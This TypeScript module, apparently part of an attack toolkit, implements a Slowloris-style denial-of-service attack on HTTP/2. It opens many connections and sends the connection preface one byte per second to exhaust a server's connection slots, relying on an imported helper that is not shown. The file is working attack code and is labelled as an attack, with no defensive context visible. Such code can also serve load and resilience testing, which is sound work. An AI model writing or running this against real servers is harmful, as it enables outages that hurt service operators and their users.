/** Slowloris on HTTP/2: a connection preface that comes one byte a second. */
import { Buffer } from 'node:buffer';
import { type Attack, hold } from './attack.ts';

/** @param count of connections */
export function slowPrefaces(count: number): Attack {
  const greeting = Buffer.from('PRI ');
  return (target, seconds, signal) => hold(target, seconds, signal, { count, greeting, drip: Buffer.from('*') });
}
